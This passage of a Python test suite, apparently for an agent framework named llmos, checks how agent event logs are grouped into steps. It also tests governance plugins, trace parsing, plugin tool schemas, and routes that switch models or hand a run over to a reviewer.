        {"kind": "assistant_text", "text": "Done", "turn": "m2"},
        {"kind": "checker_results", "phase": "finish",
         "results": [{"checker": "c", "passed": True}]},
        {"kind": "score_recorded", "scope": "run", "evaluator": "change_size", "score": None},
        {"kind": "run_finished", "status": "stopped"},
    ]  # fmt: skip
    view = supersteps(events)
    first, second = view["supersteps"]
    assert (first["type"], second["type"], view["status"]) == ("plan", "respond", "stopped")
    write, curl = first["calls"]
    assert write["ok"] is True and write["routes"][0]["action"] == "stop"
    assert curl["ok"] is False and curl["checks"][0]["passed"] is False
    assert curl["decisions"][0]["guard"] == "governance"
    assert second["checks"] == [{"checker": "c", "passed": True, "phase": "finish"}]
    assert view["run"]["scores"][0]["evaluator"] == "change_size"


def test_supersteps_of_a_replay_and_of_an_old_log() -> None:
    replay = supersteps(
        [
            {"kind": "run_started", "mode": "follower"},
            {
                "kind": "tool_requested",
                "tool_use_id": "replay-1",
                "tool": "Bash",
                "input": {"command": "pytest"},
            },
            {"kind": "tool_requested", "tool_use_id": "replay-2", "tool": "Write", "input": {}},
        ]
    )
    assert [s["type"] for s in replay["supersteps"]] == ["verify", "write"]
    old = supersteps(
        [
            {"kind": "run_started", "mode": "learner"},
            {"kind": "tool_requested", "tool_use_id": "a", "tool": "Read", "input": {}},
            {"kind": "tool_finished", "tool_use_id": "a", "ok": True},
            {"kind": "assistant_text", "text": "done"},
        ]
    )
    assert [s["type"] for s in old["supersteps"]] == ["plan", "respond"]
    assert old["supersteps"][0]["calls"][0]["type"] == "read"  # typed when the log was not


def test_a_policy_with_plugins_adds_their_rules() -> None:
    from llmos._internal.plugins.types import Plugin

    plugin = Plugin("rules")

    @plugin.checker(phase="finish")
    def signed(history: History, call: Any) -> str | None:
        return None

    @plugin.router()
    def never(history: History) -> Route | None:
        return None

    @plugin.evaluator(gate=True)
    def fine(history: History) -> float:
        return 1.0

    policy = GovernancePolicy().with_plugins([plugin])
    assert [c.name for c in policy.checkers] == ["rules.signed"]
    assert policy.checkers[0].phases == frozenset({"finish"})
    assert [r.name for r in policy.routers] == ["rules.never"]
    assert policy.build_evaluators()[-1].gate is True
    assert GovernancePolicy().with_plugins([]) == GovernancePolicy()


# The trace format and the plugin API -----------------------------------------------------------
def test_a_traces_type_and_scores_are_checked_at_load() -> None:
    from llmos._internal.errors import TraceFormatError
    from llmos._internal.memory.trace import parse, render

    trace = Trace(
        goal_text="g",
        steps=(TraceStep("Bash", {"command": "pytest"}, step_type="verify"),),
        scores={"tests_passed": 1.0, "change_size.lines": 3.0},
    )
    text = render(trace)
    assert "- **Type:** verify" in text and "scores:" in text and parse(text) == trace
    with pytest.raises(TraceFormatError, match="Type must be a step type"):
        parse(text.replace("- **Type:** verify", "- **Type:** Verify it"))
    with pytest.raises(TraceFormatError, match="front matter scores: bad value"):
        parse(text.replace("  tests_passed: 1.0", "  tests_passed: high"))


def test_plugin_tools_declare_kinds_and_outputs(tmp_path: Path) -> None:
    from llmos._internal.plugins.registry import call_tool
    from llmos._internal.plugins.types import Plugin, PluginError

    plugin = Plugin("demo")
    with pytest.raises(PluginError, match="unknown tool kind 'test'"):
        plugin.tool(version="1.0.0", kind="test")
    with pytest.raises(PluginError, match=r"cannot check .*patternProperties"):
        plugin.tool(version="1.0.0", output_schema={"patternProperties": {}})

    @plugin.tool(version="1.0.0")
    def words(text: str) -> list[str]:
        """Split."""
        return text.split()

    @plugin.tool(version="1.0.0", output_schema={"type": "object", "required": ["n"]})
    def broken(text: str) -> dict:
        """Count, wrongly."""
        return {"count": 1}

    @plugin.tool(version="1.0.0")
    def untyped(text: str):  # type: ignore[no-untyped-def]
        """No annotation: nothing to check."""
        return 3

    split, wrong, free = plugin.tools
    assert split.output_schema == {"type": "array", "items": {"type": "string"}}
    assert split.kind == "execute" and free.output_schema is None
    assert call_tool(split, {"text": "a b"}, tmp_path).ok
    result = call_tool(wrong, {"text": "x"}, tmp_path)
    assert not result.ok and result.schema_problem == "$: 'n' is required"
    assert call_tool(free, {"text": "x"}, tmp_path).ok
    with pytest.raises(PluginError, match="checker phase 'sometimes'"):
        plugin.checker(phase="sometimes")


def test_routes_at_the_end_switch_and_send_back_or_hand_over(tmp_path: Path) -> None:
    model = _session(
        tmp_path, {"routes": [{"when": "finish without verify", "then": "model opus"}]}
    )
    switched: list[str] = []

    async def switch(name: str) -> None:
        switched.append(name)

    model.ctx.switch_model = switch
    out = asyncio.run(model.before_finish({}))
    assert out["decision"] == "block" and "go on with the model opus" in out["reason"]
    assert switched == ["opus"] and asyncio.run(model.before_finish({})) == {}  # once
    handoff = _session(
        tmp_path,
        {"routes": [{"when": "finish without verify passed", "then": "hand over to reviewer"}]},
    )
    assert asyncio.run(handoff.before_finish({})) == {}  # let it stop; the dispatcher hands over
    assert handoff.handoff is not None and handoff.handoff.target == "reviewer"
    assert asyncio.run(handoff.conclude(_outcome())).outcome.status == "handed_off"
